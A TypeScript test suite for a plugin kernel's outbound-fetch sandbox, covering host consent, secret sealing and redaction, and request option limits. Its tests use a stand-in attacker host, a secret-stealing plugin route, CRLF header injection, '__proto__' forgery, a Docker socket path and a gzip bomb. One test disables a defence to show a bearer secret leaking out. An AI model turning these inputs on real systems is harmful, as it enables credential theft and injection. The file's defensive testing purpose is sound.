// A plugin and the world outside: what it asked for and the tenant consented to, with secrets that it never sees.
import t, { type Test } from 'tap'
import { allStand, type DefencesOff } from '../../kernel/src/defences.ts'
import { bankSource, strangerSource } from '../support/bank-plugin.ts'
import { makeInstallation } from '../support/installation.ts'
import { type Send, testKernel } from '../support/kernel.ts'
import { makeOutsideWorld } from '../support/outside-world.ts'
import { recordingLog } from '../support/recording-log.ts'

const hosts = ['api.bank.example', 'cdn.bank.example']
const value = 'k3y/of+the bank'
const ok = 'https://api.bank.example/ok'
const echo = 'https://api.bank.example/echo'

async function start(t: Test, off: DefencesOff = allStand) {
  const outside = await makeOutsideWorld(t)
  const { log, lines } = recordingLog()
  const pluginsRoot = await makeInstallation(t, {
    '@test/bank': { source: bankSource },
    '@test/stranger': { source: strangerSource, migrations: false },
  })
  const kernel = await testKernel(t, { pluginsRoot }, { log, off, world: outside.world })
  const openBank = async () => {
    const tenant = await kernel.openTenant()
    const enabled = await tenant.owner('POST', '/v1/tenant/modules', {
      module: 'bank',
      consent: { http: hosts },
    })
    t.match(enabled, { status: 201, body: { module: 'bank', consent: { http: hosts, missing: [] } } })
    return tenant
  }
  return { kernel, outside, lines, openBank }
}

const setKey = (send: Send, name = 'bankKey', text: unknown = value) =>
  send('PUT', `/v1/tenant/secrets/bank/${name}`, { value: text })
const fetchAs = (send: Send, url: string, request: object = {}) =>
  send('POST', '/v1/bank/fetch', { url, request: JSON.stringify(request) })

t.test('consent', async (t) => {
  const { kernel, openBank, outside } = await start(t)
  const { owner } = await kernel.openTenant()
  const asks = {
    http: hosts,
    secrets: [{ name: 'bankKey', title: 'Key of the bank', host: hosts[0] }, { name: 'cdnKey' }],
  }

  await t.test('is asked for before a module is enabled, with what it asks for', async (t) => {
    const refused = { status: 409, body: { code: 'CONSENT_REQUIRED', module: 'bank', asks } }
    t.match(await owner('POST', '/v1/tenant/modules', { module: 'bank' }), refused)
    t.match(
      await owner('POST', '/v1/tenant/modules', { module: 'bank', consent: { http: hosts.slice(1) } }),
      refused,
    )
    const more = { http: [...hosts, 'www.attacker.example'] }
    t.match(await owner('POST', '/v1/tenant/modules', { module: 'bank', consent: more }), {
      status: 422,
      body: { errors: [{ field: 'consent.http.2', code: 'NOT_ASKED_FOR' }] },
    })
    t.same((await owner('GET', '/v1/tenant/modules')).body['items'], [])
    const catalogue = (await kernel.send('GET', '/v1/marketplace/modules')).body['items'] as { id: string }[]
    t.match(
      catalogue.find(({ id }) => id === 'bank'),
      { asks },
    )
  })

  await t.test('can be withdrawn and given again, and counts from the next request', async (t) => {
    const tenant = await openBank()
    const { owner } = tenant
    const consent = (http: string[], send = owner) => send('PUT', '/v1/tenant/modules/bank/consent', { http })
    t.match(await fetchAs(owner, ok), { status: 200, body: { status: 200, body: '{"fine":true}' } })
    t.match(await consent(['cdn.bank.example']), {
      status: 200,
      body: { consent: { missing: ['api.bank.example'] } },
    })
    t.match(await fetchAs(owner, ok), {
      body: { code: 'FETCH_REFUSED', message: /not consented to 'api.bank.example'/ },
    })
    const from = 'https://cdn.bank.example/redirect?to=https://api.bank.example/ok'
    t.match(
      await fetchAs(owner, from),
      { body: { code: 'FETCH_REFUSED' } },
      'nor is a redirect the way around',
    )
    t.match(await owner('GET', '/v1/tenant/modules'), {
      body: { items: [{ consent: { http: ['cdn.bank.example'], changedBy: String, changedAt: String } }] },
    })
    t.match(await consent(['www.attacker.example']), { status: 422, body: { errors: [{ field: 'http.0' }] } })
    t.match(await consent(hosts, await kernel.addMember(tenant, 'member')), { status: 403 })
    t.match(await consent(hosts, await kernel.addMember(tenant, 'admin')), { status: 200 })
    t.match(await fetchAs(owner, ok), { body: { status: 200 } })
    const { rows } = await kernel.database.admin.query(
      "select before, after from kernel.audit where tenant_id = $1 and entity = 'consent' order by id",
      [tenant.id],
    )
    t.same(rows, [
      { before: null, after: { http: hosts } },
      { before: { http: hosts }, after: { http: ['cdn.bank.example'] } },
      { before: { http: ['cdn.bank.example'] }, after: { http: hosts } },
    ])
  })

  await t.test('is no matter of a module that is not enabled or not there', async (t) => {
    t.match(await owner('PUT', '/v1/tenant/modules/bank/consent', { http: [] }), { status: 403 })
    t.match(await owner('PUT', '/v1/tenant/modules/nothing/consent', { http: [] }), { status: 404 })
    t.match(await owner('PUT', '/v1/tenant/modules/bank/consent', {}), { status: 422 })
  })

  await t.test('to some hosts is none to others', async (t) => {
    const { owner } = await openBank()
    for (const url of [
      'https://www.attacker.example/ok',
      'https://api.other.example/ok',
      'https://127.0.0.1/ok',
    ])
      t.match(await fetchAs(owner, url), { body: { code: 'FETCH_REFUSED' } }, url)
    t.match(await owner('POST', '/v1/bank/uncaught', { url: 'https://api.other.example/ok' }), {
      status: 502,
      body: { code: 'FETCH_REFUSED' },
    })
    t.same(outside.inner, [])
  })
})

t.test('secrets', async (t) => {
  const { kernel, openBank, outside, lines } = await start(t)
  const tenant = await openBank()
  const { owner } = tenant

  await t.test('are set by owners and admins, and shown to nobody', async (t) => {
    t.match(await owner('POST', '/v1/bank/secret', { url: echo }), {
      body: { code: 'SECRET_NOT_SET', message: /PUT \/v1\/tenant\/secrets\/bank\/bankKey/ },
    })
    t.match(await setKey(await kernel.addMember(tenant, 'member')), { status: 403 })
    t.match(await setKey(owner, 'another'), { status: 404, body: { code: 'SECRET_NOT_FOUND' } })
    for (const wrong of ['short', '', 'half of a \ud83d character', 7, null])
      t.match(await setKey(owner, 'bankKey', wrong), { status: 422 }, JSON.stringify(wrong))
    t.match(await setKey(owner), { status: 204 })
    const list = await owner('GET', '/v1/tenant/secrets/bank')
    t.match(list, {
      body: {
        items: [
          {
            name: 'bankKey',
            title: 'Key of the bank',
            host: 'api.bank.example',
            isSet: true,
            setAt: String,
            setBy: String,
          },
          { name: 'cdnKey', isSet: false },
        ],
      },
    })
    t.notMatch(JSON.stringify(list.body), 'k3y')
    t.match(await (await kernel.addMember(tenant, 'member'))('GET', '/v1/tenant/secrets/bank'), {
      status: 403,
    })
  })

  await t.test('arrive at their host, and what comes back does not tell them', async (t) => {
    const { body } = await owner('POST', '/v1/bank/secret', { url: echo })
    const basic = Buffer.from(`user:${value}`).toString('base64')
    t.match(outside.latest(), {
      authorization: `Bearer ${value}`,
      'x-basic': `Basic ${basic}`,
      cookie: value,
    })
    t.match(outside.outer.at(-1), /key=k3y%2Fof%2Bthe\+bank&day=/)
    t.match(body, {
      status: 200,
      headers: { 'x-auth': 'Bearer ***' },
      body: /"authorization":"Bearer \*\*\*"/,
    })
    t.match(body, { body: /\\"key\\":\\"\*\*\*\\".*mine/ })
    const text = JSON.stringify(body)
    t.notMatch(text, /k3y|of\+the bank|of%2Bthe/)
    t.notOk(text.includes(basic.slice(8, -4)), 'nor in base64')
    t.same((await owner('GET', '/v1/bank/shape')).body, [
      '{"$secret":"bankKey","as":"bearer"}',
      ['bankKey', 'cdnKey'],
    ])
  })

  await t.test('go nowhere else', async (t) => {
    t.match(await owner('POST', '/v1/bank/secret', { url: 'https://cdn.bank.example/echo' }), {
      body: { code: 'FETCH_REFUSED', message: /does not go to 'cdn.bank.example'/ },
    })
    const away = 'https://api.bank.example/redirect?status=307&to=https://cdn.bank.example/echo'
    t.match(await owner('POST', '/v1/bank/secret', { url: away }), { body: { code: 'FETCH_REFUSED' } })
    const key = { $secret: 'bankKey', as: 'bearer' }
    const found = await fetchAs(owner, away, { headers: { authorization: key } })
    t.match(found, { body: { status: 200 } })
    t.equal(outside.latest().authorization, undefined, 'a redirect leaves them behind')
  })

  await t.test('cannot be forged into anything but what they are', async (t) => {
    const forged = [
      { headers: { 'x-a': { $secret: 'nothing', as: 'raw' } } },
      { headers: { 'x-a': { $secret: 'toString', as: 'raw' } } },
      { headers: { 'x-a': { $secret: '__proto__', as: 'raw' } } },
      { headers: { 'x-a': { $secret: 'bankKey', as: 'length' } } },
      { headers: { 'x-a': { $secret: 'bankKey', as: 'raw', tenant: 'other' } } },
      { headers: { 'x-a': { $secret: ['bankKey'], as: 'raw' } } },
      { method: 'POST', json: { a: { $secret: 'bankKey' } } },
      { method: 'POST', json: { a: { $secret: 'bankKey', as: 'raw', extra: 1 } } },
      { method: 'POST', json: { a: { $secret: { $secret: 'bankKey' }, as: 'raw' } } },
      { method: 'POST', json: JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`) },
    ]
    for (const request of forged)
      t.match(
        await fetchAs(owner, echo, request),
        { body: { code: /FETCH_REFUSED|CAPABILITY_DENIED/ } },
        JSON.stringify(request).slice(0, 80),
      )
    const plain = await fetchAs(owner, echo, { method: 'POST', body: '{"$secret":"bankKey","as":"raw"}' })
    t.match(plain, { body: { body: /bankKey/ } }, 'in a text it is a text')
    const inUrl = `https://api.bank.example/echo?key=$secret`
    t.match(await fetchAs(owner, inUrl), { body: { status: 200 } })
  })

  await t.test('of another module or another tenant are not there', async (t) => {
    const consent = { http: ['www.attacker.example'] }
    await owner('POST', '/v1/tenant/modules', { module: 'stranger', consent })
    t.match(await owner('POST', '/v1/stranger/steal'), {
      body: { code: 'FETCH_REFUSED', message: /no secret 'bankKey'/ },
    })
    t.same((await owner('GET', '/v1/stranger/shape')).body, ['object', 'undefined'])
    const other = await openBank()
    t.match(await other.owner('POST', '/v1/bank/secret', { url: echo }), { body: { code: 'SECRET_NOT_SET' } })
    t.match(await other.owner('GET', '/v1/tenant/secrets/bank'), {
      body: { items: [{ isSet: false }, { isSet: false }] },
    })
    // Whoever can write to the table has no use of that either: what is sealed opens for its own tenant alone.
    await kernel.database.admin.query(
      `insert into kernel.module_secret (tenant_id, module, name, sealed, set_by)
       select $1, module, name, sealed, set_by from kernel.module_secret where tenant_id = $2`,
      [other.id, tenant.id],
    )
    t.match(await other.owner('POST', '/v1/bank/secret', { url: echo }), { body: { code: 'INTERNAL' } })
  })

  await t.test('stand sealed in the database, and neither in the audit trail nor in the log', async (t) => {
    const { admin } = kernel.database
    const stored = await admin.query<{ sealed: Buffer }>('select sealed from kernel.module_secret')
    for (const { sealed } of stored.rows) t.notOk(sealed.includes('k3y'))
    const audit = await admin.query(
      "select action, record_id, before, after from kernel.audit where entity = 'secret'",
    )
    t.same(audit.rows, [{ action: 'set', record_id: 'bank.bankKey', before: null, after: null }])
    t.notMatch(JSON.stringify(lines), /k3y|of\+the bank/)
  })

  await t.test('are removed alone or with their module, whose consent ends too', async (t) => {
    t.match(await owner('DELETE', '/v1/tenant/secrets/bank/bankKey'), { status: 204 })
    t.match(await owner('DELETE', '/v1/tenant/secrets/bank/bankKey'), { status: 404 })
    await setKey(owner)
    await owner('DELETE', '/v1/tenant/modules/bank')
    t.match(await setKey(owner), { status: 403, body: { code: 'MODULE_NOT_ENABLED' } })
    t.match(await owner('POST', '/v1/tenant/modules', { module: 'bank' }), { status: 409 })
    await owner('POST', '/v1/tenant/modules', { module: 'bank', consent: { http: hosts } })
    t.match(await owner('GET', '/v1/tenant/secrets/bank'), {
      body: { items: [{ isSet: false }, { isSet: false }] },
    })
  })
})

t.test('a request', async (t) => {
  const { openBank, outside } = await start(t)
  const { owner } = await openBank()

  await t.test('takes a closed set of options', async (t) => {
    const wrong = [
      { method: 'CONNECT' },
      { method: 'POST', json: {}, body: '' },
      { json: {} },
      { dispatcher: {} },
      { socketPath: '/run/docker.sock' },
      { timeoutMs: 60_000 },
      { redirect: 'error' },
      { method: 'POST', base64: 'no base64!' },
      { headers: { host: 'www.attacker.example' } },
      { headers: { 'x-a': 'b\r\ncookie: c' } },
      { headers: ['x'] },
      { query: { a: {} } },
    ]
    for (const request of wrong)
      t.match(
        await fetchAs(owner, echo, request),
        { body: { code: /FETCH_REFUSED|CAPABILITY_DENIED/ } },
        JSON.stringify(request),
      )
    t.same(outside.outer, [])
  })

  await t.test('sends its body as it says, and gets the answer as it asks', async (t) => {
    const echoed = async (request: object) =>
      JSON.parse(String((await fetchAs(owner, echo, request)).body['body']))
    t.match(await echoed({ method: 'POST', json: { a: [1] } }), {
      body: '{"a":[1]}',
      headers: { 'content-type': 'application/json' },
    })
    t.match(await echoed({ method: 'POST', form: { a: 'b c', d: '&' } }), { body: 'a=b+c&d=%26' })
    t.match(await echoed({ method: 'PUT', body: 'a', headers: { 'Content-Type': 'text/csv' } }), {
      method: 'PUT',
      body: 'a',
      headers: { 'content-type': 'text/csv' },
    })
    t.match(await echoed({ query: { a: 'b&c', n: 1 } }), { method: 'GET', url: '/echo?a=b%26c&n=1' })
    t.match(JSON.parse(atob(String((await owner('POST', '/v1/bank/bytes')).body))), {
      body: '\0\u0001\u0002',
    })
  })

  await t.test('meets a remote side that fails, and the plugin may go on', async (t) => {
    t.match(await fetchAs(owner, 'https://api.bank.example/no-http'), { body: { code: 'FETCH_FAILED' } })
    t.match(await fetchAs(owner, 'https://api.bank.example/silent', { timeoutMs: 200 }), {
      body: { code: 'FETCH_TIMEOUT' },
    })
    t.match(await owner('POST', '/v1/bank/uncaught', { url: 'https://api.bank.example/cut' }), {
      status: 502,
      body: { code: 'FETCH_FAILED' },
    })
  })

  await t.test('that goes over a limit ends the invocation', async (t) => {
    t.match(await fetchAs(owner, 'https://api.bank.example/gzip-bomb'), {
      status: 502,
      body: { code: 'LIMIT_EXCEEDED', detail: /'fetched bytes'/ },
    })
    t.match(await owner('POST', '/v1/bank/many'), {
      status: 502,
      body: { code: 'LIMIT_EXCEEDED', detail: /'fetches': 11 of 10/ },
    })
  })

  await t.test('is made before anything is written, and in no hook', async (t) => {
    t.match(await owner('POST', '/v1/bank/after-write'), {
      status: 502,
      body: { code: 'FETCH_REFUSED', detail: /written already/ },
    })
    t.match(await owner('POST', '/v1/bank/notes', { text: 'fetch' }), {
      status: 502,
      body: { code: 'FETCH_REFUSED', detail: /hook/ },
    })
    t.match(await owner('GET', '/v1/bank/notes'), { body: { items: [] } }, 'nothing of it is kept')
    const note = await owner('POST', '/v1/bank/notes', { text: 'a' })
    t.match(await owner('POST', `/v1/bank/notes/${String(note.body['id'])}/send`), {
      status: 200,
      body: { text: '200', status: 'sent' },
    })
  })

  await t.test('holds a transaction for so long and no longer', async (t) => {
    const note = await owner('POST', '/v1/bank/notes', { text: 'a' })
    t.match(await owner('POST', `/v1/bank/notes/${String(note.body['id'])}/drip`), {
      status: 200,
      body: { text: 'FETCH_TIMEOUT FETCH_TIMEOUT FETCH_TIMEOUT FETCH_REFUSED FETCH_REFUSED' },
    })
  })
})

t.test(
  'with the grant of hosts off, a plugin reaches hosts that nobody gave it, with a secret of another',
  async (t) => {
    const { openBank, outside } = await start(t, new Set(['hostGrant'] as const))
    const { owner } = await openBank()
    await setKey(owner)
    t.match(await fetchAs(owner, 'https://www.attacker.example/ok'), { body: { status: 200 } })
    t.match(await owner('POST', '/v1/bank/secret', { url: 'https://www.attacker.example/echo' }), {
      body: { status: 200 },
    })
    t.match(outside.latest(), { host: 'www.attacker.example', authorization: `Bearer ${value}` })
  },
)

t.test('with the size of fetches off, a bomb goes off', async (t) => {
  const { openBank } = await start(t, new Set(['fetchSize'] as const))
  const { owner } = await openBank()
  t.match(await fetchAs(owner, 'https://api.bank.example/gzip-bomb'), {
    body: { detail: /'(answer|result|memory|calls)'/ },
  })
})
